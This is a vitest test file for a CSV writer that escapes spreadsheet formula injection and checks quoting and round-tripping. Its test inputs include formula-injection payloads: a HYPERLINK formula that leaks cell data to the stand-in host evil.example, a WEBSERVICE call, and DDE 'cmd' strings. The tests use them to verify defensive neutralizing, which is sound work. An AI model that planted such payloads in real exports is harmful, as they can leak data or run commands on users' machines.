/**
 * lib/csv (issue #12 "CSV"): quoting of , ; " and newlines; a leading ' before every field or
 * `;`-separated part that a spreadsheet would run as a formula; ordinary names untouched.
 */
import { describe, expect, it } from "vitest";
import Papa from "papaparse";
import { neutralizeFormula, toCsv } from "@/lib/csv";

const parse = (csv: string) => Papa.parse<string[]>(csv, { newline: "\r\n" }).data;

describe("CSV formula neutralizing", () => {
  it("prefixes ' to Excel formula payloads at the start of a field and of each ;-separated part", () => {
    expect(neutralizeFormula('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe(
      '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    );
    expect(neutralizeFormula("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(neutralizeFormula("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(neutralizeFormula("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(neutralizeFormula("\t=1+1")).toBe("'\t=1+1");
    expect(neutralizeFormula("\r=1+1")).toBe("'\r=1+1");
    // `;`-splitting Excel (it, pt-BR): the part after the separator is a cell start too
    expect(neutralizeFormula('Dragons;=WEBSERVICE("http://evil.example")')).toBe('Dragons;\'=WEBSERVICE("http://evil.example")');
    expect(neutralizeFormula("a; =1+1;b;@x")).toBe("a;' =1+1;b;'@x");
  });

  it("leaves names like Jean-Luc, Anne-Marie; Bob and e-mail-like text as they are", () => {
    for (const s of ["Jean-Luc", "Anne-Marie; Bob", "Team A+B", "x@y.example", "50.000", "", "O'Brien"])
      expect(neutralizeFormula(s)).toBe(s);
  });
});

describe("CSV writing", () => {
  it("quotes any field containing , ; a quote or a newline, doubles quotes, and round-trips", () => {
    const rows = [
      ["Smith, John", "semi;colon", 'say "hi"', "two\nlines", "cr\rhere", "Jean-Luc", 3],
      ["=1+1", "Dragons;+SUM(A1)", "-3", "plain", "", "", -3],
    ];
    const csv = toCsv(["a", "b", "c", "d", "e", "f", "n"], rows);
    const lines = csv.split("\r\n");
    expect(lines[0]).toBe("a,b,c,d,e,f,n");
    expect(csv).toContain('"Smith, John","semi;colon","say ""hi""","two\nlines","cr\rhere",Jean-Luc,3');
    expect(lines.at(-1)).toBe('"\'=1+1","Dragons;\'+SUM(A1)","\'-3",plain,,,-3');
    expect(parse(csv)).toEqual([
      ["a", "b", "c", "d", "e", "f", "n"],
      ["Smith, John", "semi;colon", 'say "hi"', "two\nlines", "cr\rhere", "Jean-Luc", "3"],
      ["'=1+1", "Dragons;'+SUM(A1)", "'-3", "plain", "", "", "-3"],
    ]);
  });

  it("a ;-delimited reader (Excel it/pt-BR) sees no cell starting with a formula character", () => {
    const csv = toCsv(["team"], [['Dragons;=HYPERLINK("http://evil.example","x")'], ["@A1;-A2;+A3"]]);
    const cells = Papa.parse<string[]>(csv, { delimiter: ";", newline: "\r\n" })
      .data.flat()
      .map((c) => c.replace(/^"/, ""));
    for (const c of cells) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });
});
